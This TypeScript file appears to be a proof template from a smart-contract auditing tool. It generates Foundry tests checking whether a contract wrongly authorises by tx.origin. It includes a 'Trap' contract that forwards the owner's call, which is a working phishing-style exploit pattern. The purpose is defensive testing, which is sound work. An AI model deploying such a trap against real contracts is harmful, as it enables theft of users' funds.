import type { ProofTemplate } from "../proofPlan.ts";
import { encodeCall } from "../values.ts";

/** The owner calls a contract of the attacker's, which calls the attacked function. */
export const txOrigin: ProofTemplate = {
  name: "txOrigin",
  title: "Authorisation by tx.origin",
  categories: ["tx-origin"],
  plan(subject) {
    const [attacked] = subject.attacked;
    if (attacked === undefined) return { kind: "unplanned", reason: "no function that can be called from outside reaches it" };
    const call = encodeCall(attacked, { account: "account", amount: "amount" });
    return {
      kind: "planned",
      attackTest: "test_trapHasNoRights",
      controlTest: "test_ownerMayCall",
      assumptions: ["the contract holds 10 ether", `OWNER, who deployed it, may call ${attacked.signature}`, ...call.assumptions],
      missing: call.missing,
      contracts,
      members: `
function test_trapHasNoRights() public {
    vm.deal(address(target), 10 ether);
    Trap trap = new Trap();
    bool acted;
    for (uint256 i = 0; i < 3 && !acted; i++) {
        bytes memory data = _call(address(trap), _amount(i));
        vm.prank(OWNER, OWNER);
        acted = trap.open(address(target), data);
    }
    uint256 gained = address(trap).balance;
    require(gained == 0, string(abi.encodePacked("HyperKit proof: attacker 0 -> ", _ether(gained), " ETH")));
    require(!acted, "HyperKit proof: a contract that the owner called acted with the owner's rights");
}

function test_ownerMayCall() public {
    vm.deal(address(target), 10 ether);
    bool acted;
    for (uint256 i = 0; i < 3 && !acted; i++) {
        bytes memory data = _call(VICTIM, _amount(i));
        vm.prank(OWNER, OWNER);
        (acted, ) = address(target).call(data);
    }
    require(acted, "${attacked.name} reverts for OWNER");
}

function _amount(uint256 i) private pure returns (uint256) {
    return i == 0 ? 10 ether : i == 1 ? 1 ether : 1;
}

function _call(address account, uint256 amount) private view returns (bytes memory) {
    (account, amount);
    return ${call.expression};
}
`,
    };
  },
};

const contracts = `
/// The owner is lured into calling it.
contract Trap {
    function open(address target, bytes calldata data) external returns (bool ok) {
        (ok, ) = target.call(data);
    }

    receive() external payable {}
}
`;
